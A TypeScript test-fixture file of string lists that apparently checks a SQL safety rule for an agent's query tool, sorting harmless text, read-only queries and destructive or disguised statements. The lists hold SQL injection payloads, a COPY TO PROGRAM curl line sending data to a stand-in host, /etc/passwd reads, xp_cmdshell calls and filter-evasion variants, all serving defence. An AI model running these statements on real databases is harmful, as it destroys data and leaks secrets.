/** Texts that no rule about SQL may hold up, wherever an agent writes them. */
export const HARMLESS_TEXTS: readonly string[] = `
please delete from my list the items where the price is above ten
Delete from my list the items where the colour is red
delete from my list
Delete the old drafts where nobody has commented since May
Delete this message after reading it.
update the docs
Update the docs and set the date to Friday
update my calendar, set the reminder to 9 = nine o'clock
Update: the build set a new record
Select the best option from the list and call me
Select apples, oranges from the store and bring them home
select a colour from the palette, then group the rest by size
Insert into the box the letter that came this morning
insert into the second paragraph a sentence about values
Drop me a line; drop the rest
Drop table reservations from the agenda, please
drop the table off at the warehouse
Create a table of contents for the report
create table for the meeting with six chairs
create an index of the names in the book
Create view counts as requested by marketing
Alter the plan if the user asks
alter table settings in the restaurant
Grant access on Monday, not on Tuesday
grant me three wishes
Revoke the licence from Bob on Monday
Show me the money
show tables and chairs in the catalogue
Explain the difference between delete and truncate
explain select committees in parliament
describe the view from the window
With great power comes great responsibility
with regards as (ever) yours
Values: honesty, courage, patience
values (see page 7) are rounded
Begin with the introduction; end with thanks
begin
commit
Commit to the plan and release it
rollback
close ticket
close the window
fetch the ball
fetch results
notify team
listen to music
lock doors
load the truck
reset password
set status to done
set the table for four
Set x = 4 in the equation
call mom
call me (on Monday)
execute the plan
exec summary of the quarter
prepare dinner from leftovers
merge the branches using rebase
Merge when ready
replace into with onto in the second sentence
rename the file to report.txt
analyze results
vacuum the floor
cluster the users by age
copy the text from page one to page two
Copy this: 'hello'
import the data
export the data as a table
use python
use the force
go
Go to the store; come back
kill the process gently
kill 2 birds with one stone
do not disturb
do it; then rest
if you can read this, then you are close
while you are there, end the call
declare victory
deny everything
backup the laptop tonight
restore the painting with care
attach the file as a PDF
shutdown at noon
handler for errors
union select committee meets on Friday
the union, all select members, met
It's a test; it isn't a drill
Don't; stop; won't
rock 'n' roll -- live
price -- 7 euros; tax -- 1 euro
C# and F# are languages
/* a comment in code */ int main(void) { return 0; }
# Heading; with a semicolon
SELECT is a keyword; so is FROM.
The word DELETE is written in capitals
I think the query should be a SELECT
How do I delete from a list in Python?
how to drop a table in postgres
What does DROP TABLE do?
Where is the update? Set me straight.
ticket 7 or 8 = either
a = a
1 = 1
2 + 2 = 4; 3 + 3 = 6
https://example.test/select?from=users&where=1
/home/user/update/set/file.txt
user@example.test
2026-11-22T10:00:00Z
{"action": "close ticket", "note": "delete from my list"}
["update the docs", "notify team"]
const x = await db.select('name').from('users');
git commit -m "drop table of contents"
rm -rf build && make
function drop(table) { delete table.rows; }
for (const row of rows) { update(row); }
import { select } from 'd3'; select('body').append('p');
npm run build; npm test
Truncate after 80 characters
Dear Anna, please update the table with the new figures; set the column width to 4. Best, Bob
Release notes: fixed a crash when tables are dropped; updated the docs
Table 4 shows values (in percent) of each group
a;b;c;d
name;age;city
"quoted", 'quoted', \`quoted\`
'tis the season; 'twas the night
select
from
where
;
--
`
  .split('\n')
  .filter((line) => line !== '')
  .concat([
    'Dear all,\n\nplease delete from the plan what is done.\nUpdate the rest; set new dates.\n\nThanks',
    'Minutes\n\nGO\n\n1. Select a chair\n2. Drop the old plan\nGO',
    '',
    '   ',
    'x'.repeat(20_000),
    'lorem ipsum; dolor sit amet, '.repeat(2_000),
  ]);

/** One plain read each: a query tool runs them. */
export const PLAIN_READS: readonly string[] = `
select 1
SELECT * FROM users
select count(*) from users where created_at > now() - interval '7 days'
SELECT u.name, sum(o.total) AS total FROM users u JOIN orders o ON o.user_id = u.id GROUP BY u.name ORDER BY total DESC LIMIT 10;
with recent as (select * from orders where day > current_date - 7) select * from recent
select * from drop_table
select deleted_at, updated_at from audit_log where action = 'delete'
select '; drop me a line'
select 'it''s; delete from users'
SELECT table_name, column_name, data_type FROM information_schema.columns WHERE table_schema = 'public'
select pg_size_pretty(pg_total_relation_size('users'))
select coalesce(a, b), upper(c), row_number() over (partition by d order by e) from t
select a from t union all select b from u
select case when a > 1 then 'x' else 'y' end from t
select jsonb_agg(x) from (select data->>'name' as x from events) s
values (1, 'a'), (2, 'b')
table users
show server_version
explain select * from users
explain analyze select * from users where id = 7
explain (analyze false) select * from users
select * from users -- everybody
-- drop nothing here
 select 1
/* a comment about update */ select 1
select id from t where name like '%update%' and note ilike 'drop%'
(select 1)
select exists (select 1 from users where email = 'a@b.test')
select date_trunc('day', created_at), count(*) from events group by 1
select $$a b$$
select * from generate_series(1, 10)
select "update", t."delete" from t
select array_agg(name order by name) filter (where active) from users
select a::text, b::date from t where c = any(array[1,2,3])
select * from t where x @> '{"a": 1}' and y #>> '{a,b}' = 'c'
`
  .split(/\n(?! select)/)
  .filter((line) => line !== '');

/** What drops, truncates, or changes every row: no query tool runs it, whoever agrees. */
export const DESTRUCTIVE_STATEMENTS: readonly string[] = `
DROP TABLE users
drop table if exists users cascade
DROP/**/TABLE users
/* x */ drop /* y */ table users -- z
DROP DATABASE main
DROP SCHEMA public CASCADE
drop view v
drop materialized view v
drop index i
drop role admin
drop owned by bob
drop tablespace t
drop function f(int)
drop trigger t on users
drop extension pgcrypto
drop table users, orders
ALTER TABLE users DROP COLUMN email
alter table users add a int, drop column b
TRUNCATE users
truncate table users restart identity
DELETE FROM users
delete from users;
DELETE FROM users RETURNING *
DELETE FROM ONLY users
DELETE FROM users AS u
DELETE FROM users WHERE 1=1
DELETE FROM users WHERE true
DELETE FROM users WHERE not false
DELETE FROM users WHERE 'a' = 'a'
DELETE FROM users WHERE 2 > 1
DELETE FROM users WHERE id = id
DELETE FROM users u WHERE u.id = u.id
DELETE FROM users WHERE id = 7 OR 1=1
DELETE FROM users WHERE id = 7 OR id = id
DELETE FROM users WHERE 1=1 AND 2=2
DELETE FROM users WHERE id IS NULL OR id IS NOT NULL
DELETE FROM users WHERE id = 1 OR id <> 1
DELETE FROM users WHERE id = 1 OR NOT id = 1
DELETE FROM users WHERE id <= id
DELETE FROM users WHERE name LIKE '%'
DELETE FROM users WHERE name ILIKE '%%'
DELETE FROM users WHERE id IS NOT DISTINCT FROM id
DELETE FROM users WHERE id IN (id)
DELETE FROM users WHERE id BETWEEN id AND id
DELETE FROM users WHERE NOT (id <> id)
DELETE FROM users WHERE now() > '2000-01-01'
DELETE FROM users WHERE length('x') = 1
DELETE FROM users WHERE EXISTS (SELECT 1)
DELETE FROM users USING orders
UPDATE accounts SET balance=0
UPDATE accounts SET balance = 0 WHERE 1=1
UPDATE ONLY accounts SET balance = balance * 2 WHERE true
UPDATE accounts a SET balance = 0 FROM users
UPDATE accounts SET balance=0 RETURNING *
WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d
WITH u AS (UPDATE users SET admin = true RETURNING id) SELECT count(*) FROM u
WITH a AS (SELECT 1), b AS (DELETE FROM users) SELECT * FROM a
SELECT * FROM (WITH d AS (DELETE FROM users RETURNING 1) SELECT * FROM d) x
INSERT INTO log WITH d AS (DELETE FROM users RETURNING id) SELECT id FROM d
EXPLAIN ANALYZE DELETE FROM users
EXPLAIN (ANALYZE, VERBOSE) DELETE FROM users
EXPLAIN (ANALYZE true) UPDATE users SET a = 1
explain analyze with d as (delete from users) select 1
PREPARE p AS DELETE FROM users
COPY (DELETE FROM users RETURNING *) TO STDOUT
COPY users TO PROGRAM 'curl example.test'
COPY users FROM PROGRAM 'wget -O- example.test'
DO $$ BEGIN DELETE FROM users; END $$
DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$
DO $x$ BEGIN IF true THEN TRUNCATE users; END IF; END $x$
DO LANGUAGE plpgsql 'BEGIN UPDATE accounts SET balance = 0; END'
MERGE INTO users u USING gone g ON true WHEN MATCHED THEN DELETE
select 1; drop table users
select 1;;; truncate users
begin; delete from users; commit
1; DROP TABLE users --
'; DROP TABLE users; --
x'; DELETE FROM users WHERE 1=1; --
) ; DROP TABLE users; --
DELETE FROM \`users\`
DROP TABLE \`users\`
DROP TABLE [dbo].[users]
TRUNCATE TABLE \`users\`
delete from users limit 10
DELETE TOP (10) FROM users
DELETE FROM [users]
UPDATE \`accounts\` SET \`balance\` = 0
/*!50000 DROP TABLE users */
/*!DROP*/ TABLE \`users\`
EXPLAIN DELETE FROM \`users\`
BEGIN DELETE FROM users; END;
BEGIN EXECUTE IMMEDIATE 'x'; DROP TABLE users; END;
DECLARE @t int; DELETE FROM [users]
DROP TABLE users PURGE
DROP TABLE db..users
ALTER TABLE \`users\` DROP COLUMN \`email\`
DROP DATABASE IF EXISTS \`shop\`
\tDrop\tTable\tusers
DrOp TaBlE users
DROP TABLE "users"
\ufeffDROP TABLE users
dr\u200bop table users
ＤＲＯＰ ＴＡＢＬＥ users
`
  .split('\n')
  .filter((line) => line !== '')
  .concat([
    'select 1\nGO\ndrop table users\nGO',
    'DROP\nTABLE\nusers',
    'DROP --x\nTABLE users',
    'DELETE # all\nFROM users',
  ]);

/** What is no single plain read: a person looks first. */
export const CHANGING_STATEMENTS: readonly string[] = `
insert into users values (1)
delete from carts where id = 7
DELETE FROM carts WHERE id = 7 RETURNING *
update users set name = 'x' where id = 7
update users set name = 'x' where id = 7 or id = 8
merge into a using b on a.id = b.id when matched then update set x = 1
create table t (id int)
create table t as select * from users
create role admin superuser
create function f() returns int as 'select 1' language sql
create extension dblink
alter role bob superuser
alter system set x = 1
alter table t add column c int
grant all on users to bob
revoke all on users from bob
comment on table users is 'x'
refresh materialized view v
reindex table users
vacuum full
analyze users
lock table users
begin
set role admin
set session_replication_role = replica
reset all
notify channel
listen channel
load 'library'
call p()
execute p
prepare p as select 1
declare c cursor for select 1
copy users to '/tmp/x'
copy users from stdin
select * into x from users
select * from users for update
select * from users for share
select pg_sleep(10)
select lo_import('/etc/passwd')
select pg_read_file('/etc/passwd')
select pg_terminate_backend(1)
select set_config('a', 'b', false)
select nextval('s')
select setval('s', 1)
select dblink('x', 'delete from users')
select query_to_xml('delete from users', true, true, '')
select public.now()
select my_function()
select 1 operator(public.+) 2
select * from unknown_function()
select count(*) from users where pg_sleep(1) is null
select 1 limit (select lo_unlink(1))
select 1 order by pg_reload_conf()
explain analyze insert into users values (1)
explain select lo_import('x')
select 1; select 2
DO $$ BEGIN PERFORM 1; END $$
select 1 shutdown
SELECT TOP 10 * FROM [users]
select * from users into outfile '/tmp/x'
SELECT LOAD_FILE('/etc/passwd')
select 1 /*! into outfile '/tmp/x' */
select 1 --1 into outfile '/tmp/x'
select 'a\\' || ' ; drop table users -- '
select 1 /* /* */ ; drop table users /* */ */
select 1 # '
REPLACE INTO users VALUES (1)
INSERT IGNORE INTO users VALUES (1)
LOAD DATA INFILE '/etc/passwd' INTO TABLE t
RENAME TABLE a TO b
FLUSH PRIVILEGES
SET GLOBAL general_log = 'ON'
SET @x = 1
HANDLER users OPEN
GRANT ALL ON *.* TO 'bob'@'%'
EXEC xp_cmdshell 'dir'
EXECUTE sp_configure 'x', 1
xp_cmdshell 'dir'
BULK INSERT users FROM 'x'
BACKUP DATABASE shop TO DISK = 'x'
DBCC CHECKDB
SHUTDOWN WITH NOWAIT
WAITFOR DELAY '0:0:10'
KILL 7
ATTACH DATABASE 'x' AS y
PRAGMA writable_schema = 1
BEGIN dbms_lock.sleep(1); END;
CALL dbms_scheduler.run_job('x')
MERGE t USING s ON (t.a = s.a) WHEN MATCHED THEN UPDATE SET t.b = 1;
UNLOAD ('select 1') TO 's3://x'
COPY INTO t FROM @stage
CREATE TABLE \`t\` (id int)
ALTER TABLE \`t\` ADD c int
CREATE USER 'bob'@'%' IDENTIFIED BY 'x'
1 UNION SELECT password FROM users
x' UNION ALL SELECT password, 1 FROM users --
x' OR 1=1 --
x' OR 'a'='a
DELETE FROM \`users\` WHERE \`id\` = 7
DELETE FROM users WHERE id = 7 LIMIT 1
UPDATE \`users\` SET a = 1 WHERE id = 7
EXPLAIN UPDATE \`users\` SET a = 1 WHERE id = 7
SELECT * FROM users PROCEDURE ANALYSE()
INSERT ALL INTO t VALUES (1) SELECT * FROM dual
DELETE users
SELECT 1 DELETE FROM users
IF 1=1 EXEC('drop')
`
  .split('\n')
  .filter((line) => line !== '');

/** Statements whose names are words of English, or whose verb stands where none is looked for. */
export const DISGUISED_STATEMENTS: readonly string[] = `
UPDATE a SET balance=0 FROM accounts a
UPDATE a, accounts SET balance=0
UPDATE my JOIN accounts ON 1=1 SET balance=0
UPDATE a SET balance=0
DELETE a FROM accounts a WHERE 1=1
DELETE a FROM accounts a
DELETE a FROM accounts AS a WHERE a.id = 7
DELETE a FROM users u JOIN accounts a ON 1=1
DELETE a, u FROM users u JOIN accounts a ON 1=1
DELETE t FROM t JOIN s ON 1=1
DELETE t FROM t
DELETE a FROM a JOIN s ON 1=1
DELETE accounts
DELETE dbo.accounts
DELETE TOP (100) accounts
DELETE TOP (10) PERCENT accounts
DELETE TOP (100) FROM accounts
DROP TABLE my, accounts
DROP TABLE my, \`accounts\`
DROP TABLE my.accounts
DROP TABLE my; DROP TABLE accounts
DROP TABLE "my"
TRUNCATE my, accounts
TRUNCATE TABLE my.accounts
delete  from my.accounts
delete from my.\`accounts\`
DELETE FROM "my"
DELETE FROM my WHERE true
DELETE FROM my USING accounts
DELETE FROM my RETURNING *
DELETE FROM a LIMIT 10
DELETE FROM it; DELETE FROM my
DELETE FROM a WHERE id IN (select id from accounts)
WITH x AS (select 1) DELETE FROM my
SET ROLE admin
SET SESSION AUTHORIZATION admin
SET session_replication_role = replica
LOCK TABLE accounts
LOCK TABLE my, accounts
VACUUM FULL accounts
VACUUM (FULL) accounts
{fn x} DELETE FROM accounts
{fn x} {fn y} DROP TABLE accounts
{fn x} SELECT 1; DELETE FROM accounts
REPLACE INTO a VALUES (1)
INSERT INTO a VALUES (1)
UPSERT INTO accounts VALUES (1)
DROP TABLE a
DROP TABLE a CASCADE
DROP VIEW IF EXISTS my CASCADE
DROP TABLE a PURGE
DROP INDEX a ON accounts
DROP USER 'me'@'%'
TRUNCATE it
TRUNCATE TABLE a RESTART IDENTITY
DELETE FROM it CASCADE
DELETE FROM ONLY my
DELETE FROM a AS b
DELETE a FROM my a
DELETE IGNORE FROM a
DELETE TOP(100) FROM a
DELETE accounts OUTPUT deleted.*
DELETE FROM OPENQUERY(x, 'y')
UPDATE a SET balance:=0
INSERT INTO my SET x = 1
{call x}
{? = call drop_all()}
({fn x}) DELETE FROM accounts
7 DELETE FROM accounts
7) DROP TABLE accounts
'x' DELETE accounts
[x] DELETE FROM accounts
SET search_path TO evil
SET TRANSACTION READ WRITE
LOCK accounts IN EXCLUSIVE MODE
`
  .split('\n')
  .filter((line) => line !== '');

/** Statements of one database, which no grammar here knows: what they do is anybody's guess. */
export const DIALECT_STATEMENTS: readonly string[] = `
UPSERT INTO accounts VALUES (1)
UPSERT accounts
BULK INSERT accounts FROM 'x'
IMPORT INTO accounts CSV DATA ('x')
IMPORT FOREIGN DATA x
DISABLE TRIGGER x ON accounts
ENABLE TRIGGER ALL ON accounts
PURGE BINARY LOGS TO 'x'
PURGE RECYCLEBIN
UNDROP TABLE accounts
MSCK REPAIR TABLE accounts
REINDEX
REINDEX accounts
RESTORE TABLE accounts
OPTIMIZE accounts
SYSTEM SHUTDOWN
SUSPEND DATABASE x
USE accounts
DESCRIBE accounts
SHOW FULL COLUMNS FROM accounts
1; REINDEX accounts
(UPSERT accounts)
{fn x} ; UNDROP TABLE accounts
`
  .split('\n')
  .filter((line) => line !== '');
